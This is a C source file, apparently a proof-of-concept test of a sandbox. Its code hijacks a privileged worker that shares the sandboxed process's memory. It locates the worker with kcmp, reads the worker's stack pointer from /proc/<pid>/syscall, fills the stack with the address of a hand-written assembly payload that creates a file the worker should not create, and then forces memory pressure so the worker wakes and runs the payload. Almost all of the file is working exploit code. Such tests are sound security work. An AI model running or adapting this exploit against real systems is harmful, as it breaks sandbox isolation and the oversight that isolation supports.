// Overwrites the stack of its own worker, as code in a sandbox could: steer FILE.
// The worker is to create FILE, which it must not be able to.
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/kcmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { PAGE_BYTES = 4096, PAGES = 16384, WORDS = 128 };

const char *path;

// Needs no stack: it is returned to.
__attribute__((naked)) static void payload(void) {
    __asm__ volatile("mov $257, %eax\n" // openat
                     "mov $-100, %edi\n"
                     "mov path(%rip), %rsi\n"
                     "mov $0x41, %edx\n" // O_WRONLY | O_CREAT
                     "mov $0600, %r10d\n"
                     "syscall\n"
                     "1: mov $24, %eax\n" // sched_yield
                     "syscall\n"
                     "jmp 1b\n");
}

// By all numbers: the folder of processes does not list workers.
static int worker(void) {
    FILE *file = fopen("/proc/sys/kernel/pid_max", "r");
    int pid_max = 0;
    if (file == NULL || fscanf(file, "%d", &pid_max) != 1) return 0;
    fclose(file);
    for (int pid = 1; pid < pid_max; pid++)
        if (pid != getpid() && syscall(SYS_kcmp, getpid(), pid, KCMP_VM, 0, 0) == 0) return pid;
    return 0;
}

static uint64_t *stack_of(int pid) {
    char name[64], text[256] = "";
    snprintf(name, sizeof name, "/proc/%d/syscall", pid);
    unsigned long long at = 0;
    while (at == 0) { // Until it sleeps.
        FILE *file = fopen(name, "r");
        if (file == NULL || fgets(text, sizeof text, file) == NULL) exit(2);
        fclose(file);
        if (sscanf(text, "%*s %*s %*s %*s %*s %*s %*s %llx", &at) != 1) at = 0;
    }
    return (uint64_t *)(uintptr_t)at;
}

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    path = argv[1];
    int pid = worker();
    if (pid == 0) return 3;
    volatile uint64_t *stack = stack_of(pid);
    for (int word = 0; word < WORDS; word++) stack[word] = (uintptr_t)payload;
    puts("steered");
    fflush(stdout);
    // The agent wakes the worker when pages must leave.
    volatile char *memory = mmap(NULL, (size_t)PAGES * PAGE_BYTES, PROT_READ | PROT_WRITE,
                                 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    for (;;)
        for (int page = 0; page < PAGES; page++) memory[(size_t)page * PAGE_BYTES]++;
}
